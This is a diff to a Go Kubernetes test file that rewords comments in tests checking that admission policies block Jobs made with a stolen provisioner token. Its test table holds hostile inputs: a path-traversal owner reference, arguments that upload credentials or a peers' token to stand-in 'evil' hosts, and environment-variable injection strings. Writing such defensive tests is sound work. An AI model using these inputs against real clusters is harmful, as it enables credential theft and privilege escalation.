@@ -21,7 +21,7 @@ import (
 	"github.com/flexlvm/flexlvm/test/await"
 )
 
-// stolen is what somebody speaks to the API with who has the provisioner's token.
+// stolen returns a client with the rights of the provisioner's token, as a thief has.
 func (k *kubelets) stolen(t *testing.T) client.Client {
 	t.Helper()
 	config := rest.CopyConfig(k.config)
@@ -31,13 +31,13 @@ func (k *kubelets) stolen(t *testing.T) client.Client {
 	return stolen
 }
 
-// rich is a volume whose loader has all that a loader can have.
+// rich is a volume whose loader uses every option.
 const rich = `{id: a, replicas: 1, sourceType: S3, accessMode: ReadWriteOnce, capacity: 5Gi, labels: {k: v},
     options: {awsCredentialsSecretName: s, caConfigMap: ca, serviceAccountName: loader, sourceURL: "s3://b/p/", timeoutForDataDownload: 1h, stream: "true"},
     nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: sim, operator: Exists}]}]}},
     tolerations: [{key: gpu, operator: Exists, value: "", effect: NoSchedule}]}`
 
-// loader is the Job that the controller has made, as it could be made again.
+// loader returns the Job that the controller created, as it could be created again.
 func (s *space) loader(name string) *batchv1.Job {
 	s.t.Helper()
 	var job *batchv1.Job
@@ -52,8 +52,8 @@ func (s *space) loader(name string) *batchv1.Job {
 	return job
 }
 
-// testLoaderPolicies: the provisioner's token is good for the Jobs that the controller
-// makes, and for no others.
+// testLoaderPolicies checks that the provisioner's token can create the Jobs that the controller
+// creates, and no others.
 func (k *kubelets) testLoaderPolicies(t *testing.T) {
 	stolen, ctx, s := k.stolen(t), t.Context(), k.namespace(t, "loaders")
 	require.NoError(t, k.client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: "loader"}}))
@@ -65,7 +65,7 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 		change(job)
 		return stolen.Create(ctx, job, client.DryRunAll)
 	}
-	// It is there already, and would be let in.
+	// The Job exists already, which the server reports only after admission.
 	err := try(func(*batchv1.Job) {})
 	require.True(t, apierrors.IsAlreadyExists(err), "%v", err)
 	require.NoError(t, try(upload))
@@ -78,13 +78,13 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 	k.testPeerJobs(t, s, stolen)
 	for message, changes := range jobsOfThieves {
 		for name, change := range changes {
-			// What several policies refuse, any of them may answer.
+			// If several policies refuse a Job, the error may come from any of them.
 			if err := try(change); err == nil || !strings.Contains(err.Error(), "'provisioner-loaders.flexlvm.io'") {
 				require.ErrorContains(t, err, message, name)
 			}
 		}
 	}
-	// Claims that are there already, and were made for somebody else.
+	// Existing claims that were created for other purposes.
 	for _, number := range []string{"7", "8"} {
 		name := "v-a-" + number
 		claim := &corev1.PersistentVolumeClaim{
@@ -102,7 +102,7 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 		err := try(func(j *batchv1.Job) { ofReplica(j, "v-a", number) })
 		require.ErrorContains(t, err, "may only create Jobs that mount claims of their own dataset")
 	}
-	// Where nobody asks for datasets, nobody loads any.
+	// In a namespace without VolumeManagers nothing can be loaded.
 	other := k.namespace(t, "loaders-none")
 	require.ErrorContains(t, try(func(j *batchv1.Job) { j.Namespace = other.name }), "no params found")
 	for _, namespace := range []string{metav1.NamespaceSystem, system} {
@@ -119,7 +119,7 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 	s.nothingLeft()
 }
 
-// testCopiedClaims: what a volume names is mounted to be read, and nothing else.
+// testCopiedClaims checks that only the claim that a volume names is mounted, and only read-only.
 func (k *kubelets) testCopiedClaims(t *testing.T, s *space, stolen client.Client) {
 	t.Helper()
 	for _, name := range []string{"theirs", "share"} {
@@ -158,14 +158,14 @@ func (k *kubelets) testCopiedClaims(t *testing.T, s *space, stolen client.Client
 			continue
 		}
 		require.Error(t, err, name)
-		// Several policies may refuse it, and any of them answers.
+		// If several policies refuse it, the error may come from any of them.
 		require.Regexp(t, regexp.QuoteMeta(c.message)+"|'provisioner-(jobs|loaders|loader-claims)[.]flexlvm[.]io'", err.Error(), name)
 	}
 	s.remove(s.get("c"))
 	k.kubectl(t, "delete", "pvc", "theirs", "share", "-n", s.name, "--wait=false")
 }
 
-// upload makes a loader one that uploads.
+// upload changes a loader's Job to an upload.
 func upload(j *batchv1.Job) {
 	j.Name, j.Labels["flexlvm.io/role"] = "v-a-put", "put"
 	pod := &j.Spec.Template.Spec
@@ -173,7 +173,7 @@ func upload(j *batchv1.Job) {
 	pod.Containers[0].Args = []string{"put", "--progress=json", "--", "/data", "s3://b/out/"}
 }
 
-// ofReplica makes a loader that of another replica, whose claim need not be there.
+// ofReplica changes a loader's Job to another replica's, whose claim need not exist.
 func ofReplica(j *batchv1.Job, base, number string) {
 	j.Name, j.Labels["flexlvm.io/replica"] = base+"-"+number, number
 	podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = j.Name
@@ -186,7 +186,7 @@ func args(words ...string) func(*batchv1.Job) {
 	return func(j *batchv1.Job) { containerOf(j).Args = words }
 }
 
-// jobsOfThieves are Jobs that no controller makes, by what is said of them.
+// jobsOfThieves are changes to Jobs that no controller makes, by a part of the refusal.
 var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 	"that a VolumeManager owns": {
 		"no owner": func(j *batchv1.Job) { j.OwnerReferences = nil },
@@ -197,7 +197,7 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 			j.OwnerReferences = append(j.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ServiceAccount", Name: "default", UID: "uid"})
 		},
 		"unknown version": func(j *batchv1.Job) { j.OwnerReferences[0].APIVersion = "flexlvm.io/v9" },
-		"a node": func(j *batchv1.Job) { // by whose UID Kubernetes would take the owner for there
+		"a node": func(j *batchv1.Job) { // Kubernetes would take the node's UID as proof that the owner exists
 			j.OwnerReferences[0].Name = "x" + strings.Repeat("-", 36) + "/../../../../../../../api/v1/nodes/n1"
 			j.OwnerReferences[0].UID, j.Labels["flexlvm.io/volumemanager"] = "other", "other"
 			ofReplica(j, "x-01234567", "9")
@@ -276,11 +276,11 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 		"way out":        args("put", "--", "/data/../credentials", "s3://evil/"),
 		"mixed up":       args("put", "/credentials", "--", "/data", "s3://evil/"),
 		"another verb":   args("help"),
-		// The token of the peers may not be sent to a source, nor anything else that is mounted.
+		// Neither the peers' token nor any other mounted file may be sent to a source.
 		"peers' token":    args("--credentials-dir=/peers", "--", "https://evil/list", "/data"),
 		"order by secret": args("--order=list", "--order-file=/credentials/token", "--", "s3://b/p", "/data"),
 		"result":          args("--result=/data/x", "--", "s3://b/p", "/data"),
-		// What the environment says would come in their place.
+		// The kubelet would expand these to values of the environment.
 		"variable":       args("put", "--", "/data/$(X)", "s3://evil/"),
 		"flag":           args("--$(X)", "--", "s3://b/p", "/data"),
 		"after a dollar": args("--", "s3://b/$$$(X)", "/data"),
